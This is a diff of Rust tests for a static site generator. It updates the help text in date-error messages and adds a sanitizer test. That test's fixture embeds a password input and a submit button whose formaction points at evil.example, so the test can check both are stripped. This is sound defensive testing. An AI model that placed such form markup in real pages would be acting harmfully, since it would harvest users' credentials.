@@ -255,13 +255,13 @@ fn a_date_offset_beyond_a_day_is_an_error_at_the_date() {
          \x20 |\n\
          3 | date: 2025-11-02T23:30:00+99:00\n\
          \x20 |       ^^^^^^^^^^^^^^^^^^^^^^^^^\n\
-         \x20 = help: write dates as YYYY-MM-DD, e.g. `2025-12-02`, optionally with a time: `2025-12-02T14:30`\n\
+         \x20 = help: write dates as YYYY-MM-DD, e.g. `2025-12-02`, optionally with a time: `2025-12-02T14:30`; a month (`2025-12`) or a year (`2025`) when no more is known, after `~` when approximate (`~2025-12-02`)\n\
          \n\
          content/articles/minutes.md:3:7: error: `2025-11-02T10:00:00-05:60` is not a valid date: `-05:60` is not an offset from UTC, which runs from -23:59 to +23:59\n\
          \x20 |\n\
          3 | date: 2025-11-02T10:00:00-05:60\n\
          \x20 |       ^^^^^^^^^^^^^^^^^^^^^^^^^\n\
-         \x20 = help: write dates as YYYY-MM-DD, e.g. `2025-12-02`, optionally with a time: `2025-12-02T14:30`\n\
+         \x20 = help: write dates as YYYY-MM-DD, e.g. `2025-12-02`, optionally with a time: `2025-12-02T14:30`; a month (`2025-12`) or a year (`2025`) when no more is known, after `~` when approximate (`~2025-12-02`)\n\
          \n\
          error: 2 problems in 2 files\n"
     );
@@ -524,4 +524,20 @@ fn html_allow_drops_script_urls_from_every_url_attribute_and_style_attributes() 
     );
     // What `allow` is for still comes through.
     assert!(page.contains("<video src=\"v.mp4\" controls"), "{page}");
+}
+
+#[test]
+fn html_sanitize_keeps_task_list_boxes_but_no_other_input() {
+    let body = "- [x] done\n- [ ] to do\n\n\
+                <input type=\"text\" name=\"password\" placeholder=\"Your password\">\n\
+                <input type=\"submit\" formaction=\"https://evil.example/\">\n";
+    let dir = small_site("html-sanitize-input", "base_url: https://example.org/brief/\nhtml: sanitize\n", body);
+    let out = dir.join("public");
+    build_ok(dir.path(), &out, &[]);
+    let page = read(&out, "articles/talks/index.html");
+    let body = between(&page, "<li><input", "</p>");
+    assert_eq!(attribute_values(body, "type"), ["checkbox"; 4], "{page}");
+    assert_eq!(attribute_values(body, "disabled").len(), 4, "{body}");
+    assert!(!body.contains("placeholder") && !body.contains("formaction") && !body.contains("password"), "{body}");
+    assert_eq!(attribute_values(body, "checked").len(), 1, "{body}");
 }
